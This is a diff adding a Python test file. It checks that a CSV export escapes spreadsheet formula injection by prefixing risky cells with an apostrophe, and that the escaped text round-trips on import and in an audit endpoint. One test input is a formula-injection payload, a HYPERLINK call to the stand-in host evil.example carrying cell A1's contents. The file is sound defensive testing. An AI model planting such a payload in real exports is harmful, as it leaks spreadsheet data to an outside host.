@@ -1,0 +1,79 @@
+"""No text of the record is a formula where a table is opened, and read back it is what it was."""
+
+from __future__ import annotations
+
+import codecs
+import csv
+import io
+from typing import TYPE_CHECKING, Final
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from api.csv_cells import plain, table
+from api.import_csv import read_csv
+from tests.api.asking import TALKS
+
+if TYPE_CHECKING:
+    from tests.api.asking import Client
+
+SIGNS: Final = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
+FORMULAS: Final = (
+    '=HYPERLINK("https://evil.example?"&A1;"Freed")',
+    *("+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1", "-0044", "'=1", "''+1", "-"),
+)
+
+
+def cells(written: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline="")))
+
+
+@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
+def test_what_a_spreadsheet_would_compute_stands_behind_an_apostrophe(text: str) -> None:
+    _, (shown, number, none) = cells(table(("a", "b", "c"), [(text, -5, None)], bom=False))
+    assert (shown, number, none) == (f"'{text}", "-5", "")
+    assert plain(shown) == text
+
+
+@pytest.mark.parametrize(
+    "text", ["Freed", "'tis", "52-54", "a=b", "2025-09-11", "'", "", "[1]", "'Freed'"]
+)
+def test_what_is_no_formula_stands_as_it_is(text: str) -> None:
+    assert cells(table(("a",), [(text,)], bom=False))[1:] == [[text] if text else [""]]
+    assert plain(text) == text
+
+
+@given(st.text(SIGNS + "'\"a,;1 ", max_size=12) | st.text(max_size=20))
+def test_whatever_is_written_is_read_back_and_begins_as_no_formula(text: str) -> None:
+    _, (shown, _) = cells(table(("a", "b"), [(text, "x")], bom=False))
+    assert not shown.startswith(tuple(SIGNS))
+    assert plain(shown) == text
+
+
+def test_a_table_of_ours_is_imported_as_it_was_written() -> None:
+    columns = ("kind", "valid", "summary", "person", "post", "people")
+    row = ("appointment", "-0044", "=1+1", "@John", "'-post", "-A; =B")
+    (line,) = read_csv(table(columns, [row], bom=True).splitlines(keepends=True))
+    assert line.content == {**dict(zip(columns, row, strict=True)), "people": ["-A", "=B"]}
+
+
+def test_the_audit_computes_nothing_and_begins_with_a_mark_on_request(client: Client) -> None:
+    client.open()
+    record = client.record(summary="=1+1 freed", note="-")
+    body = {"reason": "coding_error", "why": '@SUM(A1:A9),"x"', "changes": {"summary": "+2 freed"}}
+    where = f"{record.headers['location']}/corrections"
+    assert client.post(where, body, if_match=record.headers["etag"]).status == 200
+    plainly = client.get(f"{TALKS}/audit", accept="text/csv")
+    marked = client.get(f"{TALKS}/audit?bom=true", accept="text/csv")
+    assert marked.body == codecs.BOM_UTF8 + plainly.body
+    assert marked.headers["etag"] != plainly.headers["etag"]
+    assert "bom=true" in marked.headers["link"]
+    header, row = cells(marked.body)
+    shown = dict(zip(header, row, strict=True))
+    assert (shown["summary"], shown["why"]) == ("'+2 freed", '\'@SUM(A1:A9),"x"')
+    assert shown["changes"].startswith("[")
+    as_json = client.get(f"{TALKS}/audit?bom=true")
+    assert as_json.json["items"][0]["fact"]["summary"] == "+2 freed"
+    assert "bom" not in as_json.headers["link"]
+    assert client.get(f"{TALKS}/audit?bom=1").pointers == ["/query/bom"]
